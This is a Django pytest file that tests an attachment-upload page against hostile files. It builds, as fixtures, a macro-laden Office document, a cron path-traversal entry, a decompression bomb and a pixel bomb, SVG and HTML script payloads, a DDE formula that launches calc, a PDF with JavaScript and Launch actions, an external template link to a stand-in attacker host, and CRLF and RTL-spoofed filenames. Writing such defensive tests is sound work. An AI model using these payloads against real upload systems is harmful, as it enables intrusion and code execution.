"""What an attacker sends through the page of files: it is refused with its reason, or what is read back is harmless."""

import io
import struct
import zlib
from collections.abc import Callable
from urllib.parse import quote

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from PIL import Image

from accounts.actors import Actor
from accounts.models.memberships import Role
from needs.models.needs import Need
from tests.authoring.forms import SCRIPT, Form, Name, Text, entries
from tests.factories import NeedFactory, acting
from tests.files.office import COMPOUND, MICROSOFT, Package, all_of, open_document, text, workbook, zipped

SignIn = Callable[[Actor], Client]
pytestmark = pytest.mark.django_db
BOUNDARY = "limite"
MACROS = COMPOUND + "_VBA_PROJECT".encode("utf-16-le")


@pytest.fixture
def need() -> Need:
    return NeedFactory()


@pytest.fixture
def writer(sign_in: SignIn, need: Need) -> Client:
    return sign_in(acting(Role.CONTRIBUTOR, need.organisation))


def _send(writer: Client, need: Need, data: bytes, name: str = "document.bin") -> tuple[int, str]:
    """How the page answers a file, and what it says after any redirection."""
    sent = {"file": SimpleUploadedFile(name, data), "has_no_patient_data": "on"}
    response = writer.post(reverse("needs:attachments", args=[need.reference]), sent, follow=True)
    return response.status_code, response.content.decode()


def _read_back(writer: Client, need: Need) -> bytes:
    kept = need.attachments.get()
    response = writer.get(reverse("needs:attachment", args=[need.reference, kept.pk]))
    assert response["Content-Disposition"].startswith("attachment")
    return response.content


def _with(made: Package, *parts: tuple[str, str | bytes, str]) -> bytes:
    for name, content, relation in parts:
        made.add(name, content, relation=relation)
    return made.written()


def _linked() -> bytes:
    made = workbook()
    made.add("xl/externalLinks/externalLink1.xml", "<x/>", relation="externalLink")
    made.relate("externalLinkPath", "file://evil/share/x.xlsx", source="xl/externalLinks/externalLink1.xml", is_outside=True)
    return made.written()


def _unpacked_bomb() -> bytes:
    return _with(text(), ("word/big.xml", b"0" * (101 * 1024 * 1024), ""))


def _picture_bomb() -> bytes:
    """A PNG of 60,000 × 60,000 dots in a few bytes."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


def _forged_size() -> bytes:
    data = _with(text(), ("word/styles.xml", "0" * 99_999, "styles"))
    return data.replace(struct.pack("<L", 99_999), struct.pack("<L", 9))


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (lambda: _with(text(), ("word/embeddings/oleObject1.bin", COMPOUND, "oleObject")), "un fichier d’un autre programme"),
        (lambda: _with(text(), ("word/x.bin", MACROS, f"{MICROSOFT}/vbaProject")), "macros"),
        (lambda: _with(text(), ("word/media/photo.png", b"MZ\x90\0evil", "image")), "un programme"),
        (lambda: _with(text(), ("word/x.dat", zipped({"META-INF/MANIFEST.MF": "x"}), "")), "un programme"),
        (lambda: _with(text(), ("../../../etc/cron.d/x", "* * * * * root evil", "")), "noms"),
        (lambda: _with(workbook(), ("xl/macrosheets/sheet1.xml", "<x/>", f"{MICROSOFT}/xlMacrosheet")), "macros"),
        (_linked, "d’autres classeurs"),
        (_unpacked_bomb, "trop volumineux"),
        (lambda: zipped({f"word/{number}": "" for number in range(5001)}), "trop volumineux"),
        (_picture_bomb, "trop grande"),
        (lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='evil()'/>", "un dessin SVG"),
        (lambda: b"<!doctype html><script>evil()</script>", "page Web"),
        (lambda: b"mois;visites\n1;=cmd|'/C calc'!A0\n", "une formule"),
        (_forged_size, "endommagé"),
    ],
    ids=["ole", "vba", "exe", "jar", "traversal", "xlm", "external-link", "bomb", "parts", "dots", "svg",
         "html", "dde", "forged-size"],
)  # fmt: skip
def test_what_runs_embeds_or_explodes_is_refused_with_its_reason(
    writer: Client, need: Need, data: Callable[[], bytes], said: str
) -> None:
    status, page = _send(writer, need, data())
    assert status == 422
    assert said in page
    assert not need.attachments.exists()


def _templated() -> bytes:
    made = text()
    made.relate("attachedTemplate", "https://evil.example/x.dotm", is_outside=True)
    return made.written()


def _listening() -> bytes:
    listener = '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:evil"/>'
    return open_document(before=f"<office:scripts><office:event-listeners>{listener}</office:event-listeners></office:scripts>")


def test_a_document_that_fetches_or_listens_is_cleaned_and_what_went_is_said(writer: Client, need: Need) -> None:
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    field = f"<w:p>{begin}<w:r><w:instrText>DDEAUTO cmd evil</w:instrText></w:r>{end}</w:p>"
    for data, said in ((_templated(), ""), (_listening(), "lancent un programme"), (text(field).written(), "des champs")):
        status, page = _send(writer, need, data)
        assert status == 200
        assert ("Retiré du fichier" in page) == bool(said)
        assert said in page
        assert b"evil" not in all_of(_read_back(writer, need))
        need.attachments.all().delete()


def test_a_pdf_loses_what_acts_and_hides(writer: Client, need: Need) -> None:
    form = Form()
    script = entries(S=Name("/JavaScript"), JS=Text(SCRIPT))
    form.annotation("/Link", (1, 1, 20, 20), A=script)
    form.annotation("/Link", (1, 1, 20, 20), A=entries(S=Name("/Launch"), F=Text("cmd.exe"), P=Text("evil")))
    form.annotation("/Screen", (1, 1, 20, 20), AA=entries(PV=script))
    form.annotation("/FileAttachment", (1, 1, 20, 20), FS=entries(Type=Name("/Filespec"), F=Text("evil.exe")))
    form.writer.add_outline_item(title="Partie", page_number=0).get_object()[Name("/A")] = script
    form.writer.add_attachment("evil.exe", b"MZ evil")
    assert _send(writer, need, form.written())[0] == 200
    kept = _read_back(writer, need)
    for trace in (b"evil", b"cmd.exe", b"JavaScript", b"Launch", b"/AA", b"EmbeddedFile", b"FileAttachment"):
        assert trace not in kept


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd", "passwd.png"), ("..\\..\\x.png", "x.png"), ("a\0b.png", "ab.png"),
        ("a\r\nSet-Cookie: x.png", "aSet-Cookie  x.png"),
        ("a\u202egnp.exe.png", "agnp.exe.png"), ("/", "document.png"), ("é" * 120 + ".png", "é" * 96 + ".png"),
    ],
)  # fmt: skip
def test_a_name_leads_nowhere_and_breaks_no_header(writer: Client, need: Need, name: str, kept: str) -> None:
    picture = io.BytesIO()
    Image.new("RGB", (3, 3)).save(picture, "PNG")
    head = f"Content-Disposition: form-data; name=\"file\"; filename*=UTF-8''{quote(name)}\r\nContent-Type: image/png\r\n\r\n"
    agreed = 'Content-Disposition: form-data; name="has_no_patient_data"\r\n\r\non'
    body = b"".join(
        [f"--{BOUNDARY}\r\n{head}".encode(), picture.getvalue(), f"\r\n--{BOUNDARY}\r\n{agreed}\r\n--{BOUNDARY}--\r\n".encode()]
    )
    address = reverse("needs:attachments", args=[need.reference])
    response = writer.post(address, body, content_type=f"multipart/form-data; boundary={BOUNDARY}")
    found = need.attachments.first()
    if found is None:
        assert response.status_code in (400, 422)
        return
    assert found.name == kept
    answer = writer.get(reverse("needs:attachment", args=[need.reference, found.pk]))
    assert answer["Content-Disposition"].isascii()
    assert "\n" not in answer["Content-Disposition"]
